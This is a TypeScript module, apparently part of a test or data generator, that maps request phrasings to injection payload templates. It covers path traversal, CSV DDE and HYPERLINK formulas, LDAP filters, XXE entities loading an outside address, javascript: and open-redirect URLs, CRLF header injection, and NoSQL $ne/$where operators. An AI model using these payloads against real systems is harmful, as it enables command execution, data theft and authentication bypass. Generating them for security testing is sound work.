import { address, type Form, named } from './form.ts';

/** What a program reads as data: paths, tables, filters, documents, addresses, headers. Written as the asker wants it. */
export const dataForms: readonly Form[] = [
  { when: /\btwo dots, a slash\b/i, write: (w) => `../../${w}` },
  { when: /\/tmp\/[^.\n]{0,20}\b(?:right|directly) behind\b|\/tmp\/ with\b/i, write: (w) => `/tmp/${w}` },
  {
    when: /\bDDE request\b/i,
    write: (w) => `NAME,NOTE\nBen,=cmd|'/C echo ${w}'!A0`,
  },
  {
    when: /\bfunction HYPERLINK\b/i,
    write: (w, t) => `NAME,NOTE\nAda,"=HYPERLINK(""${address(t)}${w}"",""open"")"`,
  },
  {
    when: /\bclause\b[^.\n]{0,40}\bdescription\b/i,
    write: (w) => `(&(objectClass=person)(uid=*)(description=${w}))`,
  },
  {
    when: /\bemployeeType\b/i,
    write: (w) => `(&(objectClass=person)(|(uid=ada)(employeeType=${w})))`,
  },
  {
    when: /\bexternal entity\b/i,
    write: (w, t) =>
      `<!DOCTYPE order [<!ENTITY buyer SYSTEM "${address(t)}${w}">]>\n<order><name>&buyer;</name></order>`,
  },
  {
    when: /\bexternal subset\b/i,
    write: (w, t) => `<!DOCTYPE note SYSTEM "${address(t)}${w}">\n<note>gate closes at ten</note>`,
  },
  { when: /\btwo slashes, next\.example\b/i, write: (w) => `//next.example/${w}` },
  {
    when: /\breturn parameter\b[^\n]{0,40}\bjavascript\b/i,
    write: (w, t) => `javascript:${named(t)}('${w}')`,
  },
  {
    when: /\bline break\b[^\n]{0,20}\bSet-Cookie\b/i,
    write: (w) => `Content-Language: en\nSet-Cookie: mark=${w}`,
  },
  {
    when: /\bline break\b[^\n]{0,20}\bLocation\b/i,
    write: (w, t) => `Content-Language: de\nLocation: ${address(t)}${w}`,
  },
  { when: /\boperator \$ne\b/i, write: (w) => JSON.stringify({ city: { $ne: w } }) },
  {
    when: /\$where operator\b/i,
    write: (w, t) => JSON.stringify({ city: 'Oslo', $where: `${named(t)}('${w}')` }),
  },
];
